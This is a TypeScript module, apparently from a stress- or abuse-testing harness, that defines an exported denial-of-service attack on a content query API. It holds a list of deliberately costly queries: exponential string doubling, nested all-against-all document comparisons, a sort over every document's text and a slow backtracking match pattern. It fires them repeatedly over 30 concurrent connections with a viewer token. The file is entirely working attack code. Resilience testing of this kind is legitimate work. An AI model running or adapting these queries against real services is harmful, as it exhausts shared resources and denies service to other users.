import { authorized, repeat, send } from "./client.ts";
import type { Attack } from "./target.ts";

/** Queries that each take as long as they may without a pause, or as long as a query may in total. */
const costly = [
  // Doubles a text 26 times.
  (n: number) => `*[0...9]{"a": _id + "${n}"}${'{"a": a + a}'.repeat(26)}{"n": length(a)}`,
  // Doubles it as often as a query may, and splits it.
  (n: number) =>
    `*[0...9]{"a": "${"x".repeat(1_000)}${n}"}${'{"a": a + a}'.repeat(12)}{"n": count(string::split(string::upper(a), "X"))}`,
  // Compares all documents with each other, for each of three documents.
  (n: number) => `*[0...3]{"a": count(*[count(*[_rev != ^._rev && _id != ^.^._id]) > ${n}])}`,
  (n: number) => `*{"a": count(*[^._id != _id && ${n} != count(*[_rev != ^._rev])])}`,
  // Sorts all documents by the text of all of their blocks.
  (n: number) => `*[_rev != "${n}"] | order(pt::text(blocks[].text), _id desc)[0...2000]{_id}`,
  // Matches each document with a pattern that takes long.
  (n: number) => `*["${"a".repeat(300)}" match "*a*a*a*a*a*a*a*b${n}"]`,
  (n: number) =>
    `*[0...40]{"a": count(*[_rev != ^._rev]), "b": diff::changedAny({"n": ${n}}, {}, (n))}`,
];

/** Queries of one token, over 30 connections. */
export const queries: Attack = (context) => {
  const { target, signal } = context;
  const headers = authorized(target.tokens.viewer);
  return repeat(30, context, (n, agent) => {
    const query = encodeURIComponent(costly[n % costly.length]?.(n) ?? "*");
    const url = `${target.lake}/v2025-02-19/data/query/production?query=${query}`;
    return send(url, { headers, agent }, signal);
  });
};
